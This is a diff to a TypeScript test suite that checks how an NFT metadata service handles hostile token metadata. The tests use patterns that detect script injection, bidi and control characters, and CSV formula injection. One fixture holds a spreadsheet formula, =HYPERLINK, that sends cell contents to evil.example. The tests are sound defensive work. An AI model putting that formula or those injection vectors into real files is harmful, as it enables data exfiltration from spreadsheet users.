@@ -6,6 +6,7 @@ import { type HostileToken, hostileTokens } from "../../runtime/demo/chapters/ho
 import { readMetadataStatus } from "../../runtime/domains/nft/metadata/status-queries.ts";
 import { createCaller } from "../contract/caller.ts";
 import { useApp } from "../support/app.ts";
+import { parseCsv } from "../support/csv.ts";
 
 const app = await useApp();
 const call = createCaller(app.url, app.key);
@@ -91,7 +92,7 @@ describe("tokens whose metadata mean harm", () => {
     const token = of(kind);
     expect(token?.external_data).not.toBeNull();
     expect(token?.metadata_refusal).toMatch(reason);
-    expect(JSON.stringify(token?.external_data)).not.toMatch(/script|onload|foreignObject|text\/html/i);
+    expect(JSON.stringify(token?.external_data)).not.toMatch(/<script|javascript:|onload|foreignObject|text\/html/i);
   });
 
   it("leave every sheep between them served, without a reason", () => {
@@ -108,8 +109,7 @@ describe("tokens whose metadata mean harm", () => {
     for (const { external_data: data, kind } of tokens) {
       const texts = [data?.name, data?.description, ...(data?.attributes ?? []).flatMap(({ trait_type, value }) => [trait_type, value])];
       // Control characters, marks that turn the direction of text, halves of characters.
-      for (const text of texts)
-        expect(text ?? "", kind).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u202a-\u202e\u2066-\u2069]|\p{Surrogate}/u);
+      for (const text of texts) expect(text ?? "", kind).not.toMatch(/(?![\n\t])\p{Cc}|\p{Bidi_Control}|\p{Surrogate}/u);
     }
     const names = of("names-of-other-types")?.external_data;
     expect([names?.image, names?.external_url, names?.animation_url]).toEqual([null, null, null]);
@@ -122,7 +122,11 @@ describe("tokens whose metadata mean harm", () => {
     expect(of("formula")?.external_data?.name).toBe('=HYPERLINK("https://evil.example/?"&A1,"Click")');
     const { text } = await call(`/v1/demo/nft/${collection}/metadata/?page-size=1000&format=csv`);
     expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`);
-    expect(text).not.toMatch(/(^|,)"?[=+@-][^\d,]/m);
+    expect(
+      parseCsv(text)
+        .flat()
+        .filter((cell) => /^\s*[=+@-]/.test(cell)),
+    ).toEqual([]);
   });
 
   it("brought nobody to the address on this machine that they lead to", async () => {
